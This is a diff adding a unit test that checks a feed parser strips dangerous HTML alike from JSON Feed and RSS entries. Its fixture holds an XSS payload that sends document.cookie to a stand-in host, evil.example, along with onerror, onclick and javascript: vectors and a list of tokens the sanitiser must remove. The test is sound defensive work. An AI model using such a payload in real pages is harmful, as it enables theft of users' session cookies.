@@ -112,3 +112,28 @@ def test_enclosures_of_every_feed_format_share_one_shape():
     assert photo.enclosures == [{"url": "https://photo.example.org/storm.jpg", "type": "image/jpeg", "length": None}]
     [episode] = parse_feed(json_feed, "https://cast.example.org/feed.json").entries
     assert episode.enclosures == [{"url": "https://cast.example.org/7.m4a", "type": "audio/x-m4a", "length": 8812345}]
+
+
+def test_html_fields_of_every_feed_format_are_sanitised_alike():
+    import json
+
+    from service.ingest.parser import parse_feed
+
+    hostile = ('<p onclick="steal()">Budget agreed<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+               '<img src="https://img.example.org/a.jpg" onerror="alert(1)"> <a href="javascript:alert(2)">more</a></p>')
+    json_feed = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [
+        {"id": "1", "url": "https://j.example.org/1", "content_html": hostile, "summary": hostile}]}).encode()
+    rss = ('<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
+           '<title>R</title><item><title>One</title><link>https://r.example.org/1</link>'
+           f"<description><![CDATA[{hostile}]]></description><content:encoded><![CDATA[{hostile}]]></content:encoded>"
+           "</item></channel></rss>").encode()
+    fields = []
+    for body, url in ((json_feed, "https://j.example.org/feed.json"), (rss, "https://r.example.org/feed.xml")):
+        [entry] = parse_feed(body, url).entries
+        fields += [entry.summary_html, entry.content_html]
+        assert entry.text.startswith("Budget agreed")
+    for html in fields:
+        assert "Budget agreed" in html and 'src="https://img.example.org/a.jpg"' in html
+        for bad in ("<script", "onerror", "onclick", "javascript:", "document.cookie"):
+            assert bad not in html, (bad, html)
+    assert len(set(fields)) == 1  # one sanitiser: the same HTML whatever the format
